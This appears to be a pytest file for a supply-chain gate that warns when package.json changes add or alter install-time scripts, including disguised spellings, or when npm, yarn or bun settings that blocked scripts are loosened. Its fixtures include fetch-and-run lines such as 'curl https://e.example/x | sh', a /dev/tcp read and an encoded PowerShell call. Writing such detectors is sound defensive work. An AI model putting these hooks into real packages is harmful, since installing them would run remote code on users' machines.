"""What an installation runs: compared as values, whatever the writing."""

import json

import pytest

from tests.actions.test_dependencies import gate, told

FETCH = "curl https://e.example/x | sh"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('{"scripts":{"test":"jest","postinstall":"%s"}}', 1),
        ('{\n"scripts": {\n"test": "jest",\n"postinstall"\n:\n"%s"\n}\n}', 4),
        ('{"x": "' + "y" * 9_000 + '",\n"scripts": {"test": "jest", "postinstall": "%s"}}', 2),
        ('{"scripts": {"test": "jest", "post\\u0069nstall": "%s"}}', 1),
        ('{"scripts": {"test": "jest"}, "scripts": {"postinstall": "%s"}}', 1),
        ('{"s\\u0063ripts":\r\n{"postinstall":\r\n"%s"}}', 2),
        ('\ufeff{"scripts": {"preinstall": "%s"}}', 1),
        ('{"scripts": {"pnpm:devPreinstall": "%s"}}', 1),
        ('{"scripts": {"prepare": "%s"}}', 1),
    ],
)
def test_a_script_is_seen_in_any_writing(text, line):
    old = '{"scripts": {"test": "jest"}}'
    assert told(gate({"package.json": (old, text % FETCH)})) == [
        ("install_script", "warning", "package.json", line)
    ]


@pytest.mark.parametrize(
    "command",
    [
        FETCH,
        r"\u0063url -s e.example | sh",
        "node -e \\\"require('child_process')\\\"",
        "node -pe 1",
        "bash -c 'cat < /dev/tcp/e.example/80'",
        "powershell -enc AAAA",
        "python3 -c 'import os'",
    ],
)
def test_what_fetches_or_hides_code_is_reported_in_a_new_package_too(command):
    new = '{"scripts": {"install": "%s"}}' % command  # noqa: UP031 - braces
    for old in ("{}", ""):
        assert told(gate({"package.json": (old, new)})) == [
            ("install_script", "warning", "package.json", 1)
        ]


@pytest.mark.parametrize(
    "command", ["1>/dev/null node x.js", "husky", "node scripts/evaluate.js --curly"]
)
def test_another_script_is_told_by_the_gate_of_what_runs_by_itself(command):
    new = json.dumps({"scripts": {"install": command}})
    assert told(gate({"package.json": ("{}", new)})) == []


def test_a_script_that_changed_is_new():
    old = json.dumps({"scripts": {"prepare": "husky", "postinstall": f"{FETCH} -x"}})
    new = json.dumps({"scripts": {"prepare": "husky", "postinstall": FETCH}})
    assert told(gate({"package.json": (old, new)})) == [
        ("install_script", "warning", "package.json", 1)
    ]


def test_a_script_that_stays_or_goes_or_runs_on_demand_is_not_told():
    old = {"scripts": {"prepare": FETCH, "postinstall": FETCH}}
    new = {"name": "a", "scripts": {"build": FETCH, "prepare": FETCH, "prepack": FETCH}}
    files = {"package.json": (json.dumps(old), json.dumps(new, indent=4))}
    assert told(gate(files)) == []


@pytest.mark.parametrize("scripts", ['["postinstall"]', '"postinstall"', '{"postinstall": ["x"]}'])
def test_what_npm_would_not_run_is_no_script(scripts):
    assert told(gate({"package.json": ("{}", '{"scripts": %s}' % scripts)})) == []  # noqa: UP031


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (".npmrc", "ignore-scripts=true\n", "ignore-scripts=false\n"),
        ("web/.npmrc", "ignore-scripts = true\n", "save-exact = true\n"),
        (".npmrc", "ignore-scripts\n", ""),
        (".yarnrc", "ignore-scripts true\n", "ignore-scripts false\n"),
        (".yarnrc.yml", "enableScripts: false\n", "enableScripts: true\n"),
        (".yarnrc.yml", "enableScripts: false\n", "nodeLinker: pnp\n"),
        ("bunfig.toml", "[install]\nignoreScripts = true\n", "[install]\n"),
    ],
)
def test_a_setting_that_kept_scripts_from_running_is_missed(path, old, new):
    (row,) = told(gate({path: (old, new)}))
    assert row[:3] == ("install_script", "warning", path)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("save-exact=true\n", "ignore-scripts=false\n"),
        ("", "save-exact=true\n"),
        ("ignore-scripts=true\n", "# why\nignore-scripts=true\n"),
        ("# ignore-scripts=true\n", "; nothing\n"),
    ],
)
def test_a_setting_that_forbade_nothing_is_not_missed(old, new):
    assert told(gate({".npmrc": (old, new)})) == []
